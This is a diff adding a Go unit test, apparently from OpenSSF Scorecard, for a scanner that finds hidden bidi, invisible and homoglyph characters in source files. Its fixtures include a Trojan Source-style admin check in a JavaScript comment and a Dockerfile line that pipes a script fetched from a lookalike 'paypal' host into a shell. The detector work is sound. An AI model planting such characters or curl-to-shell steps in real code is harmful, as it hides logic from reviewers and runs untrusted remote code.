@@ -0,0 +1,143 @@
+// Copyright 2023 OpenSSF Scorecard Authors
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//	http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package raw
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/ossf/scorecard/v4/checker"
+	"github.com/ossf/scorecard/v4/finding"
+)
+
+func TestCollectHiddenCharacters(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name    string
+		path    string
+		content string
+		want    []checker.HiddenCharacter
+	}{
+		{
+			name:    "plain source",
+			path:    "main.go",
+			content: "package main\n\nfunc main() {}\n",
+		},
+		{
+			name:    "bidi override",
+			path:    "src/auth.js",
+			content: "let ok = true;\nif (isAdmin) { /* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n",
+			want: []checker.HiddenCharacter{
+				{
+					Type:      checker.HiddenCharacterBidi,
+					File:      sourceFile("src/auth.js", 2, `if (isAdmin) { /* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */`),
+					Column:    19,
+					CodePoint: '\u202E',
+				},
+				{
+					Type:      checker.HiddenCharacterBidi,
+					File:      sourceFile("src/auth.js", 2, `if (isAdmin) { /* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */`),
+					Column:    23,
+					CodePoint: '\u2066',
+				},
+				{
+					Type:      checker.HiddenCharacterBidi,
+					File:      sourceFile("src/auth.js", 2, `if (isAdmin) { /* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */`),
+					Column:    36,
+					CodePoint: '\u2069',
+				},
+				{
+					Type:      checker.HiddenCharacterBidi,
+					File:      sourceFile("src/auth.js", 2, `if (isAdmin) { /* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */`),
+					Column:    38,
+					CodePoint: '\u2066',
+				},
+			},
+		},
+		{
+			name:    "invisible character and byte order mark",
+			path:    "setup.py",
+			content: "\uFEFFimport os\naccess\u200Blevel = 1\n",
+			want: []checker.HiddenCharacter{
+				{
+					Type:      checker.HiddenCharacterInvisible,
+					File:      sourceFile("setup.py", 2, `access\u200Blevel = 1`),
+					Column:    7,
+					CodePoint: '\u200B',
+				},
+			},
+		},
+		{
+			name:    "mixed-script identifier",
+			path:    "Dockerfile",
+			content: "RUN curl https://p\u0430ypal.example/install | sh\n",
+			want: []checker.HiddenCharacter{
+				{
+					Type:      checker.HiddenCharacterHomoglyph,
+					File:      sourceFile("Dockerfile", 1, `RUN curl https://p\u0430ypal.example/install | sh`),
+					Column:    19,
+					CodePoint: '\u0430',
+				},
+			},
+		},
+		{
+			name:    "long line",
+			path:    "dist/app.min.js",
+			content: strings.Repeat("x", 100) + "\u200B" + strings.Repeat("y", 100),
+			want: []checker.HiddenCharacter{
+				{
+					Type:      checker.HiddenCharacterInvisible,
+					File:      sourceFile("dist/app.min.js", 1, strings.Repeat("x", 40)+`\u200B`+strings.Repeat("y", 40)),
+					Column:    101,
+					CodePoint: '\u200B',
+				},
+			},
+		},
+		{
+			name:    "other scripts on their own",
+			path:    "i18n.go",
+			content: "var greeting = \"\u043F\u0440\u0438\u0432\u0435\u0442\" // \u03B1\u03B2\u03B3\n",
+		},
+		{
+			name:    "documentation is not scanned",
+			path:    "README.md",
+			content: "\u202E\n",
+		},
+		{
+			name:    "invalid UTF-8",
+			path:    "blob.json",
+			content: "\xff\u202E",
+		},
+	}
+	for _, tt := range tests {
+		tt := tt
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			var got []checker.HiddenCharacter
+			if _, err := collectHiddenCharacters(tt.path, []byte(tt.content), &got); err != nil {
+				t.Fatalf("collectHiddenCharacters: %v", err)
+			}
+			if diff := cmp.Diff(tt.want, got); diff != "" {
+				t.Errorf("collectHiddenCharacters() (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+func sourceFile(path string, line uint, snippet string) checker.File {
+	return checker.File{Path: path, Type: finding.FileTypeSource, Offset: line, Snippet: snippet}
+}